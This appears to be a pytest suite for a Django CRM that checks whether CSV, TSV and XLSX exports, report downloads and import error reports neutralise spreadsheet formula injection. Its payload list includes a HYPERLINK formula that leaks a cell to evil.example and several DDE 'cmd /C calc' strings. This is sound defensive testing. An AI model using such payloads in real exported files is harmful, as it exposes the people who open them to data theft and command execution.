"""Every download is written by one writer that no spreadsheet runs as formulas.

The surfaces: a list's *Export* (CSV, XLSX, TSV), the report pages' CSV and
XLSX downloads and an import's error report. Text a spreadsheet would run
(``=``, ``+``, ``-``, ``@``, tab, carriage return first) gets a leading
apostrophe in CSV and TSV and is a string cell in XLSX.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from crm.imports.engine import ImportOptions, run_import
from crm.imports.registry import get_importer
from crm.lib import spreadsheets
from crm.lib.spreadsheets import Formula, neutralise, restore
from crm.lib.tabular import read_table
from crm.models import ExchangeRate
from tests.factories import (
    ExchangeRateFactory,
    PartnerFactory,
    PaymentFactory,
    PledgeFactory,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def text_cells(content: bytes, delimiter: str = ",") -> list[str]:
    text = content.decode("utf-8-sig")
    return [
        c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row
    ]


def assert_neutralised(cells: list[str]) -> None:
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
        assert payload not in cells, payload


def assert_strings(workbook_bytes: bytes) -> None:
    book = load_workbook(io.BytesIO(workbook_bytes))
    cells = {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    }
    for payload in PAYLOADS:
        stored = payload.replace("\r", "\n") if payload[0] == "\r" else payload
        cell = cells.get(payload) or cells.get(stored)
        assert cell is not None, payload
        assert cell.data_type == "s", payload
    assert not any(c.data_type == "f" for c in cells.values())


# The rule ------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload
    assert restore(neutralise(payload)) == payload


@pytest.mark.parametrize("text", ["-1250.50", "+41", "-3", "12,5", "Plain name", ""])
def test_plain_numbers_and_plain_text_are_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


def test_numbers_and_dates_are_written_as_such():
    content = spreadsheets.csv_bytes(
        ["amount", "day", "name"],
        [[Decimal("-1250.50"), dt.date(2025, 3, 1), "-x"], [None, 3, True]],
    )
    assert text_cells(content) == [
        "amount", "day", "name", "-1250.50", "2025-03-01", "'-x", "", "3", "1",
    ]  # fmt: skip


def test_xlsx_writes_a_formula_only_when_the_code_builds_one():
    content = spreadsheets.xlsx_bytes(
        [
            spreadsheets.Sheet(
                title="Sums",
                header=["a", "b"],
                rows=[[1, "=1+1"], [2, Formula("=SUM(A2:A3)")]],
            )
        ]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("=1+1", "s")
    assert (sheet["B3"].value, sheet["B3"].data_type) == ("=SUM(A2:A3)", "f")
    assert sheet["A2"].value == 1


def test_xlsx_replaces_characters_a_workbook_cannot_hold():
    content = spreadsheets.xlsx_bytes(
        [spreadsheets.Sheet(title="x", header=["a"], rows=[["bell\x07 nul\x00"]])]
    )
    assert (
        load_workbook(io.BytesIO(content)).active["A2"].value == "bell\ufffd nul\ufffd"
    )


def test_an_import_reads_a_neutralised_download_as_written():
    content = spreadsheets.csv_bytes(["name", "note"], [[p, "x"] for p in PAYLOADS])
    table = read_table(content, filename="export.csv")
    # Read back the way an importer does: the cells are stripped.
    assert [row.values["name"] for row in table.rows] == [p.strip() for p in PAYLOADS]


# The list Export -----------------------------------------------------------


def export(client, model: str, fmt: str) -> bytes:
    address = reverse(f"admin:{model}_export")
    form = client.get(address).context["form"]
    formats = {k: v for k, v in form.fields["format"].choices if k}
    assert sorted(formats.values()) == ["csv", "tsv", "xlsx"]
    data = {"format": next(k for k, v in formats.items() if v == fmt), "resource": "0"}
    data |= {
        n: "on" for n, f in form.fields.items() if f.widget.input_type == "checkbox"
    }
    response = client.post(address, data)
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    return response.content


@pytest.fixture
def hostile_partners(db):
    return [PartnerFactory(name=payload) for payload in PAYLOADS]


@pytest.mark.django_db
def test_the_list_export_offers_csv_xlsx_and_tsv_and_neutralises_each(
    admin_client, hostile_partners
):
    assert_neutralised(text_cells(export(admin_client, "partners_partner", "csv")))
    assert_neutralised(
        text_cells(export(admin_client, "partners_partner", "tsv"), "\t")
    )
    assert_strings(export(admin_client, "partners_partner", "xlsx"))


@pytest.mark.django_db
def test_the_list_export_keeps_numbers_and_dates_in_xlsx(admin_client):
    ExchangeRateFactory(
        currency="EUR", effective_date=dt.date(2025, 2, 1), units_per_usd="0.95"
    )
    sheet = load_workbook(
        io.BytesIO(export(admin_client, "crm_exchangerate", "xlsx"))
    ).active
    header = [c.value for c in sheet[1]]
    row = {h: c.value for h, c in zip(header, sheet[2], strict=True)}
    assert row["units_per_usd"] == pytest.approx(0.95)
    assert row["effective_date"].date() == dt.date(2025, 2, 1)


@pytest.mark.django_db
def test_an_exported_list_imports_again_unchanged(admin_client):
    for n, payload in enumerate(PAYLOADS):
        ExchangeRateFactory(
            currency="EUR",
            effective_date=dt.date(2025, 1, n + 1),
            units_per_usd=Decimal("0.95"),
            source=payload.strip(),
        )
    content = export(admin_client, "crm_exchangerate", "csv")
    assert "'=HYPERLINK" in content.decode("utf-8-sig")

    result = run_import(get_importer("exchange_rates"), content, filename="rates.csv")

    assert result.counts["unchanged"] == len(PAYLOADS), [r.message for r in result.rows]
    assert set(ExchangeRate.objects.values_list("source", flat=True)) == {
        p.strip() for p in PAYLOADS
    }


# Report downloads and the import error report -----------------------------


@pytest.mark.django_db
def test_report_downloads_neutralise_each_payload(admin_client):
    for payload in PAYLOADS:
        pledge = PledgeFactory(
            partner=PartnerFactory(name=payload), pledged_on=dt.date(2025, 5, 1)
        )
        PaymentFactory(pledge=pledge, received_on=dt.date(2025, 5, 2))
    csv_address = reverse("reports_download", args=["contributions", "csv"])
    cells = text_cells(
        admin_client.get(csv_address, {"year": 2025, "table": "top"}).content
    )
    assert_neutralised(cells)
    xlsx_address = reverse("reports_download", args=["contributions", "xlsx"])
    assert_strings(admin_client.get(xlsx_address, {"year": 2025}).content)


@pytest.mark.django_db
def test_the_import_error_report_neutralises_the_uploaded_cells():
    upload = io.StringIO()
    writer = csv.writer(upload)
    writer.writerow(["Currency", "Effective date", "Rate", "Source"])
    for n, payload in enumerate(PAYLOADS):
        rate = "0" if n == 0 else "0.9"  # the first row is an error
        writer.writerow(["EUR", f"2025-01-{n + 1:02d}", rate, payload])
    result = run_import(
        get_importer("exchange_rates"),
        upload.getvalue().encode(),
        filename="rates.csv",
        options=ImportOptions(),
    )
    assert not result.written
    cells = text_cells(result.report_csv())
    # The reader strips cells; the report repeats what it read.
    for payload in PAYLOADS:
        assert "'" + payload.strip() in cells or "'" + payload in cells, payload
    assert not any(c.startswith(("=", "@", "+")) for c in cells)
